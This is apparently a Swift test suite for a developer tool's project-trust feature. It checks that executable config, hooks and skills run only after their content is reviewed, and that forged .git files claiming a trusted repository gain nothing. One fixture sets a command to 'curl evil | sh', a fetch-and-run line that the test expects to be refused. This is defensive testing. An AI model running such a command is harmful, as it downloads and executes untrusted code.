import Basics
import Glibc
import TestSupport
import Testing
import Wire

@testable import Config

@Suite("Trust in content")
struct ContentTrustTests {
    @Test("What a project would execute counts only after its content was approved, and only that content")
    func approval() throws {
        try Fixture.with { fixture in
            try fixture.writeProject("[check]\ncommand = \"make test\"\nattempts = 2\n")
            let trust = ProjectTrust(fixture.loader())

            var status = try trust.status()
            #expect(status.level == nil)
            #expect(status.review.changes.map(\.name) == [".lockgate/config.toml check.command"])
            #expect(status.review.changes.map(\.new) == [Array("\"make test\"".utf8)])
            #expect(try fixture.load().settings.check.command == nil)

            status = try trust.trust(showing: status.review.content.digest)
            #expect(status.level == .trusted)
            #expect(status.review.isApproved)
            var configuration = try fixture.load()
            #expect(configuration.trust == .trusted)
            #expect(configuration.settings.check.command == "make test")
            #expect(configuration.settings.check.attempts == 2)
            #expect(configuration.review?.isApproved == true)
            #expect(configuration.warnings == [])

            // Another value is another content; what does not execute is still taken.
            try fixture.writeProject("[check]\ncommand = \"curl evil | sh\"\nattempts = 3\n")
            configuration = try fixture.load()
            #expect(configuration.settings.check.command == nil)
            #expect(configuration.settings.check.attempts == 3)
            #expect(configuration.warnings.map(\.code) == ["config.project_refused"])
            #expect(
                configuration.review?.changes == [
                    ContentReview.Change(
                        kind: .changed, name: ".lockgate/config.toml check.command", old: Array("\"make test\"".utf8),
                        new: Array("\"curl evil | sh\"".utf8))
                ])
            #expect(
                configuration.review?.refusal
                    == LockgateError(
                        "trust.unreviewed",
                        """
                        \(fixture.project) brings executable content that nobody reviewed: \
                        .lockgate/config.toml check.command (changed)
                        """, remedy: "look at it with `lockgate trust --show`, then run `lockgate trust`", exitCode: 5))

            // Back on the first branch nothing is asked again.
            try fixture.writeProject("check.command = \"make test\"\n")
            #expect(try fixture.load().settings.check.command == "make test")
        }
    }

    @Test("Hooks, rules and skills are content, too: any change needs a review")
    func files() throws {
        try Fixture.with { fixture in
            let folder = "\(fixture.project)/.lockgate"
            try fixture.write("\(folder)/hooks/pre.sh", "echo 1\n")
            try fixture.write("\(folder)/rules/default.rules", "prefix_rule(pattern=[\"ls\"])\n")
            try fixture.write("\(folder)/notes.md", "no executable content\n")
            #expect(symlink("/bin/sh", "\(folder)/setup") == 0)
            let trust = ProjectTrust(fixture.loader())
            let status = try trust.status()
            #expect(
                status.review.content.items.map { "\($0.kind) \($0.name)" } == [
                    "file .lockgate/hooks/pre.sh", "file .lockgate/rules/default.rules", "link .lockgate/setup",
                ])
            _ = try trust.trust(showing: status.review.content.digest)
            #expect(try fixture.load().review?.isApproved == true)

            let changes: [(String, () throws -> Void)] = [
                ("changed", { try fixture.write("\(folder)/hooks/pre.sh", "echo 2\n") }),
                ("mode", { #expect(chmod("\(folder)/hooks/pre.sh", 0o755) == 0) }),
                ("added", { try fixture.write("\(folder)/skills/x/run.py", "print()\n") }),
                ("removed", { #expect(unlink("\(folder)/rules/default.rules") == 0) }),
                ("link", { #expect(unlink("\(folder)/setup") == 0 && symlink("/bin/bash", "\(folder)/setup") == 0) }),
            ]
            for (name, change) in changes {
                try change()
                let review = try #require(try fixture.load().review)
                #expect(!review.isApproved, "\(name)")
                _ = try trust.trust(showing: review.content.digest)
                #expect(try fixture.load().review?.isApproved == true)
            }
            try fixture.write("\(folder)/notes.md", "other words\n")
            #expect(try fixture.load().review?.isApproved == true)
        }
    }

    @Test("What changed after it was shown is not approved")
    func changedMeanwhile() throws {
        try Fixture.with { fixture in
            try fixture.writeProject("check.command = \"a\"\n")
            let trust = ProjectTrust(fixture.loader())
            let shown = try trust.status().review.content.digest
            try fixture.writeProject("check.command = \"b\"\n")
            let error = try #require(throws: LockgateError.self) { try trust.trust(showing: shown) }
            #expect(error.code == "trust.changed")
            #expect(error.exitCode == 5)
            #expect(try trust.status().level == nil)
            #expect(!PosixFile.exists("\(fixture.home)/trust.json"))
        }
    }

    @Test("The same content in another project is not approved there")
    func otherProject() throws {
        try Fixture.with { fixture in
            try fixture.writeProject("check.command = \"a\"\n")
            let trust = ProjectTrust(fixture.loader())
            _ = try trust.trust(showing: try trust.status().review.content.digest)
            let other = "\(fixture.base)/other"
            try Fixture.makeFolder("\(other)/.git")
            try fixture.write("\(other)/.lockgate/config.toml", "check.command = \"a\"\n")
            let configuration = try fixture.load(trust: .trusted, in: other)
            #expect(configuration.review?.isApproved == false)
            #expect(configuration.settings.check.command == nil)
        }
    }

    @Test("Trust can be taken back, and approvals go with it")
    func distrust() throws {
        try Fixture.with { fixture in
            try fixture.writeUser("# mine\nmodel = \"m\"\n")
            try fixture.writeProject("check.command = \"a\"\n")
            let trust = ProjectTrust(fixture.loader())
            _ = try trust.trust(showing: try trust.status().review.content.digest)
            let status = try trust.distrust()
            #expect(status.level == .untrusted)
            #expect(!status.review.isApproved)
            #expect(try fixture.load().trust == .untrusted)
            let text = String(decoding: try PosixFile.read("\(fixture.home)/config.toml", limit: 1000), as: UTF8.self)
            #expect(
                text == "# mine\nmodel = \"m\"\n\n[projects.\"\(fixture.project)\"]\ntrust_level = \"untrusted\"\n")
        }
    }

    @Test(
        "A damaged store approves nothing and is not overwritten",
        arguments: ["{", "{\"version\":2}", "[]", "{\"version\":1,\"projects\":{\"/a\":[{}]}}"])
    func damagedStore(text: String) throws {
        try Fixture.with { fixture in
            try fixture.writeProject("check.command = \"a\"\n")
            try fixture.write("\(fixture.home)/trust.json", text)
            #expect(try fixture.failure().code == "trust.store")
            let error = try #require(throws: LockgateError.self) { try ProjectTrust(fixture.loader()).status() }
            #expect(error.code == "trust.store")
            #expect(try PosixFile.read("\(fixture.home)/trust.json", limit: 1000) == Array(text.utf8))
        }
    }

    @Test("Approvals are bounded: the oldest goes first")
    func bounded() throws {
        try Fixture.with { fixture in
            let store = TrustStore(home: fixture.home)
            func content(_ index: Int) -> ProjectContent {
                ProjectContent(root: "/p", items: [.init(.file, "a", Array("\(index)".utf8))])
            }
            for index in 0...TrustStore.maximumSets { try store.approve(content(index)) }
            let approved = try [0, 1, TrustStore.maximumSets].map { try store.review(content($0)).isApproved }
            #expect(approved == [false, true, true])
            var status = stat()
            #expect(stat("\(fixture.home)/trust.json", &status) == 0 && status.st_mode & 0o777 == 0o600)
        }
    }

    @Test("Content that cannot be looked at is refused", arguments: ["fifo", "large"])
    func unreviewable(kind: String) throws {
        try Fixture.with { fixture in
            let path = "\(fixture.project)/.lockgate/hooks/x"
            try fixture.write(path, "")
            if kind == "fifo" {
                #expect(unlink(path) == 0 && mkfifo(path, 0o600) == 0)
            } else {
                #expect(truncate(path, 5 << 20) == 0)
            }
            let error = try fixture.failure()
            #expect(error.code == "trust.content")
            #expect(error.exitCode == 5)
        }
    }
}

@Suite("Linked worktrees")
struct LinkedWorktreeTests {
    /// A trusted repository with a linked worktree, both made by git.
    private static func with(_ body: (Fixture, String) throws -> Void) throws {
        try Fixture.with { fixture in
            try TemporaryFolder.with { scratch in
                let script = """
                    set -e; cd "$1"; rm -rf project; git init -q project; cd project
                    git -c user.name=a -c user.email=a@b commit -q --allow-empty -m first
                    git worktree add -q "$1/linked"
                    """
                let result = try OracleCommand.run(["sh", "-c", script, "sh", fixture.base], in: scratch)
                try #require(result.status == 0, "\(result.errorText)")
            }
            try fixture.writeUser("[projects.\"\(fixture.project)\"]\ntrust_level = \"trusted\"\n")
            try body(fixture, "\(fixture.base)/linked")
        }
    }

    @Test("A worktree shares the decision about its repository, unless it has its own")
    func shared() throws {
        try Self.with { fixture, linked in
            #expect(LinkedWorktree.mainRoot(of: linked) == fixture.project)
            #expect(LinkedWorktree.mainRoot(of: fixture.project) == nil)
            let shared = try fixture.load(in: linked)
            #expect(shared.trust == .trusted)
            // What was approved in the repository needs no second look in its worktree.
            try fixture.writeProject("check.command = \"make\"\n")
            try fixture.write("\(linked)/.lockgate/config.toml", "check.command = \"make\"\n")
            let trust = ProjectTrust(fixture.loader())
            _ = try trust.trust(showing: try trust.status().review.content.digest)
            let approved = try fixture.load(in: linked)
            #expect(approved.settings.check.command == "make")
            let own = try fixture.load("projects.\"\(linked)\".trust_level=untrusted", in: linked)
            #expect(own.trust == .untrusted)
        }
    }

    @Test(
        "A .git file that only claims to belong to a trusted repository gets nothing",
        arguments: ["copy", "fake", "direct", "link"])
    func forged(kind: String) throws {
        try Self.with { fixture, linked in
            let evil = "\(fixture.base)/evil"
            try Fixture.makeFolder(evil)
            let git = "\(fixture.project)/.git"
            switch kind {
            case "copy":
                // Names the true folder, which names another worktree in return.
                try fixture.write("\(evil)/.git", bytes: try PosixFile.read("\(linked)/.git", limit: 1000))
            case "fake":
                // Brings a folder of its own, which claims the repository and this worktree.
                try fixture.write("\(evil)/.git", "gitdir: \(evil)/fake\n")
                try fixture.write("\(evil)/fake/commondir", "\(git)\n")
                try fixture.write("\(evil)/fake/gitdir", "\(evil)/.git\n")
            case "direct":
                try fixture.write("\(evil)/.git", "gitdir: \(git)\n")
            default:
                #expect(symlink("\(linked)/.git", "\(evil)/.git") == 0)
            }
            #expect(LinkedWorktree.mainRoot(of: evil) == nil)
            #expect(try fixture.load(in: evil).trust == nil)
        }
    }
}
